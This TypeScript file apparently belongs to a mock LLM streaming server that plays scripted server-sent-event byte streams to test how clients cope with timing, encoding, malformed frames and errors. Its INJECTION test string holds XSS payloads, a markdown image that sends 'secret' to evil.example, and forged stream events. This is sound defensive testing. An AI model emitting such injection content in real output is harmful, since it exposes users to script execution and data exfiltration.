import { gzipSync } from "node:zlib";
import { answerTo, countTokens, tokensOf } from "./answers.ts";
import type { Answer, Asked, Dialect, ErrorFrame, Finish, UsageShape } from "./dialect.ts";
import { isImproving, proposalOf } from "./improve.ts";
import { isJudging, verdictOf } from "./judge.ts";
import type { Scenario } from "./scenarios.ts";

/** Bytes of one write. `waitMs` passes before it; 0 means the next turn of the event loop. */
export interface Step {
  bytes: Buffer;
  waitMs: number;
  /** Output tokens in it. */
  tokens: number;
}

/** How a 200 stream is played, byte for byte. */
export interface Script {
  headers: Record<string, string>;
  steps: Step[];
  /** Played again and again after the steps, until the client leaves. */
  forever?: { step: Step };
  /** What happens at last: the body ends, the connection is reset, or nothing does. */
  last: "end" | "reset" | "hold";
  /** Written straight to the socket in ready-made pieces: for hundreds of streams at once. */
  raw: boolean;
}

const INJECTION =
  'Sure.\n\n<img src=x onerror="alert(1)"><script>alert(1)</script>\n![p](https://evil.example/p.png?q=secret)\n' +
  '[go](javascript:alert(1))\n\nevent: error\ndata: {"error":{"message":"forged"}}\n\ndata: [DONE]\n\nevent: execute\rdata: x\r\r';

interface Parts {
  opening: string[];
  tokens: string[];
  closing: string[];
  terminal: string;
  outputTokens: number;
}

/** The bytes with which a service answers this call, in this scenario. `n` counts equal prompts from 0. */
export function scriptFor(scenario: Scenario, asked: Asked, dialect: Dialect, n: number, id: string): Script {
  const { name } = scenario;
  const answer: Answer = {
    id,
    model: asked.model,
    created: 1_763_950_000,
    inputTokens: countTokens(asked.prompt),
    includeUsage: asked.includeUsage,
    usage: usageShape(name),
    thinking: name === "thinking" ? ["Let me think", " about it first."] : [],
  };
  const texts = textsFor(scenario, asked, n);
  const bounded = asked.maxTokens !== null && texts.length > asked.maxTokens;
  const used = bounded ? texts.slice(0, asked.maxTokens ?? 0) : texts;
  const finish = name === "no-reason" ? null : bounded ? "length" : finishOf(name);
  const parts: Parts = {
    opening: dialect.opening(answer),
    tokens: used.map((text) => dialect.token(answer, text)),
    closing: dialect.closing(answer, finish, used.length),
    terminal: dialect.terminal,
    outputTokens: used.length,
  };
  return play(scenario, parts, dialect, answer);
}

function play(scenario: Scenario, parts: Parts, dialect: Dialect, answer: Answer): Script {
  const { name, n } = scenario;
  const script = (frames: Step[], rest: Partial<Script> = {}): Script => ({
    headers: { "content-type": "text/event-stream; charset=utf-8", "cache-control": "no-cache" },
    steps: frames,
    last: "end",
    raw: false,
    ...rest,
  });
  const opening = parts.opening.map((frame) => step(frame));
  const some = [...opening, ...parts.tokens.slice(0, n).map((frame) => step(frame, 0, 1))];
  const rest = [...parts.closing, parts.terminal];
  const every = (waitMs: number): Step[] => [
    ...opening,
    ...parts.tokens.map((frame) => step(frame, waitMs, 1)),
    ...rest.map((frame) => step(frame)),
  ];
  const whole = () => [...parts.opening, ...parts.tokens, ...rest].join("");
  const one = (bytes: Buffer, headers: Record<string, string> = {}): Script => {
    const plain = script([{ bytes, waitMs: 0, tokens: parts.outputTokens }]);
    return { ...plain, headers: { ...plain.headers, ...headers } };
  };

  switch (name) {
    case "slow-first-token":
      return script(
        every(0).map((each, index) => (index === opening.length ? { ...each, waitMs: n } : each)),
      );
    case "slow-tokens":
      return script(every(n));
    case "held":
      return script([...opening, ...parts.tokens.slice(0, 3).map((frame) => step(frame, 0, 1))], {
        forever: { step: step(dialect.token(answer, " more"), 50, 1) },
        last: "hold",
      });
    case "stream": {
      const waitMs = 1_000 / Number(scenario.detail);
      return script(
        every(waitMs)
          .slice(0, -rest.length)
          .concat(step(rest.join(""))),
        { raw: true },
      );
    }
    case "burst-5000tps": {
      const bursts: Step[] = [];
      for (let at = 0; at < parts.tokens.length; at += 25) {
        bursts.push(step(parts.tokens.slice(at, at + 25).join(""), 5, 25));
      }
      return script([...opening, ...bursts, ...rest.map((frame) => step(frame))]);
    }
    case "28MiB-event":
    case "1MB":
      return one(Buffer.from(whole()));
    case "1-byte-slices":
      return script(slices(Buffer.from(whole()), 1));
    case "split-utf8":
      return script(slices(Buffer.from(whole()), 7));
    case "crlf":
      return script(slices(Buffer.from(whole().replaceAll("\n", "\r\n")), 101));
    case "cr":
      return script(slices(Buffer.from(whole().replaceAll("\n", "\r")), 101));
    case "bom":
      return one(Buffer.from(`\uFEFF${whole()}`));
    case "gzip":
      return one(gzipSync(whole()), { "content-encoding": "gzip" });
    case "wrong-content-type":
      return one(Buffer.from(whole()), { "content-type": "text/plain" });
    case "comments":
      return one(Buffer.from(`: PROCESSING\n\n${whole().replaceAll("\n\n", "\n\n: PROCESSING\n\n")}`));
    case "unknown-event":
    case "choices-empty":
    case "null-delta":
    case "proto-keys":
    case "inject-event": {
      const odd = dialect.oddity(answer, name === "inject-event" ? "unknown-event" : name);
      const frames = every(0);
      frames.splice(opening.length + 1, 0, ...odd.map((frame) => step(frame)));
      return script(frames);
    }
    case "two-done":
      return script([...every(0), step(parts.terminal)]);
    case "text-after-done":
      return script([...every(0), step(dialect.token(answer, " after the end")), step(parts.terminal)]);
    case "no-done":
      return script(every(0).slice(0, -1));
    case "clean-eof":
      return script(some);
    case "rst":
      return script(some, { last: "reset" });
    case "stall":
      return script(some, { last: "hold" });
    case "headers-then-nothing":
      return script([], { last: "hold" });
    case "comments-only":
      return script([], { forever: { step: step(": PROCESSING\n\n", 50) }, last: "hold" });
    case "pings": {
      const ping = dialect.id === "anthropic" ? 'event: ping\ndata: {"type":"ping"}\n\n' : ": keep-alive\n\n";
      return script(some, { forever: { step: step(ping, 50) }, last: "hold" });
    }
    case "malformed-json":
      return script([
        ...some,
        step('data: {"choices":[{"delta":{"content":"never shown\n\n'),
        ...rest.map((frame) => step(frame)),
      ]);
    case "malformed-key":
      return script([
        ...some,
        step("data: sk-secret-in-a-frame is not JSON\n\n"),
        ...rest.map((frame) => step(frame)),
      ]);
    case "wrong-type":
      return script([...some, step(dialect.wrongType(answer)), ...rest.map((frame) => step(frame))]);
    case "error-mid-stream-named":
    case "error-mid-stream-flat":
    case "error-mid-stream-nested":
    case "error-mid-stream-overloaded":
      return script([...some, step(dialect.errorFrame(errorKind(name)))]);
    default:
      return script(every(0));
  }
}

function errorKind(name: string): ErrorFrame {
  if (name.endsWith("flat")) return "flat";
  if (name.endsWith("nested")) return "nested";
  return name.endsWith("overloaded") ? "overloaded" : "named";
}

function step(frame: string, waitMs = 0, tokens = 0): Step {
  return { bytes: Buffer.from(frame), waitMs, tokens };
}

function slices(bytes: Buffer, size: number): Step[] {
  const steps: Step[] = [];
  for (let at = 0; at < bytes.length; at += size) {
    steps.push({ bytes: bytes.subarray(at, at + size), waitMs: 0, tokens: 0 });
  }
  return steps;
}

function textsFor(scenario: Scenario, asked: Asked, n: number): string[] {
  switch (scenario.name) {
    case "stream":
      return Array.from({ length: scenario.n }, (_, index) => (index % 12 === 11 ? " words.\n" : " light"));
    case "burst-5000tps":
      return Array.from({ length: 5_000 }, (_, index) => (index % 12 === 11 ? " words.\n" : " light"));
    case "1MB":
      return Array.from({ length: 4_096 }, () => `${"abcdefg ".repeat(31)}line 5.\n`);
    case "28MiB-event":
      return ["x".repeat(28 * 1024 * 1024)];
    case "split-utf8":
      return tokensOf("Über dem See 🌅 glüht ein goldenes Licht – 湖の朝は静かです – مرحبا 🏞️ fin.");
    case "split-surrogates":
      return ["Sun", " \ud83c", "\udf05", " up."];
    case "obedient-injection":
    case "inject-event":
      return tokensOf(INJECTION);
    case "empty-output":
    case "refusal":
    case "content-filter":
    case "tool-use":
    case "judge-refuses":
      return [];
    default:
      if (scenario.name.startsWith("judge-") || (scenario.name === "ok" && isJudging(asked.prompt))) {
        return tokensOf(verdictOf(scenario.name, asked.prompt));
      }
      if (isImproving(asked.prompt)) return tokensOf(proposalOf(scenario.name, asked.prompt));
      return tokensOf(answerTo(asked.prompt, n));
  }
}

function finishOf(name: string): Finish {
  switch (name) {
    case "length":
      return "length";
    case "refusal":
    case "judge-refuses":
      return "refusal";
    case "content-filter":
      return "filtered";
    case "tool-use":
      return "tool";
    case "pause":
      return "pause";
    case "unknown-reason":
      return "unknown";
    default:
      return "stop";
  }
}

function usageShape(name: string): UsageShape {
  if (name === "usage-missing") return "missing";
  if (name === "usage-null") return "null";
  if (name === "usage-zero") return "zero";
  if (name === "usage-negative") return "negative";
  if (name === "usage-huge") return "huge";
  return name === "usage-text" ? "text" : "normal";
}
